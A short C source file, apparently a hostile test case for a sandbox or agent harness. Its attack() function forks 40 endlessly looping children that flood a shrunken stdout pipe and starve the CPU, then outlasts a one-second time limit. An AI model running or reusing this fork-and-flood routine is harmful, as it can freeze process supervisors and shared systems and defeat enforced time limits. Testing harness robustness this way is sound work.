#include "hostile.h"

static double now(void) {
    struct timespec at;
    clock_gettime(CLOCK_MONOTONIC, &at);
    return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
}

static char line[1 << 16];

/* Its pipe is full again as soon as somebody has read, and its children leave the agent no CPU: the wall clock stands still
 * while a program waits for a reader that has none. */
int attack(void) {
    const double began = now();
    memset(line, '\n', sizeof line);
    fcntl(1, F_SETPIPE_SZ, 4096);
    int own = fcntl(1, F_DUPFD, 10);
    for (int i = 0; i < 40; i++)
        if (fork() == 0)
            for (;;) {
                fcntl(own, F_SETFL, O_WRONLY | O_NONBLOCK);
                write(own, line, 4096);
                for (volatile int spin = 0; spin < 100000; spin++) {}
            }
    /* The limit is a second. Three more may be granted, those for an agent without a CPU among them. */
    while (now() - began < 14) usleep(10000);
    /* It is too late for a limit. */
    kill(getpid(), SIGKILL);
    return 0;
}
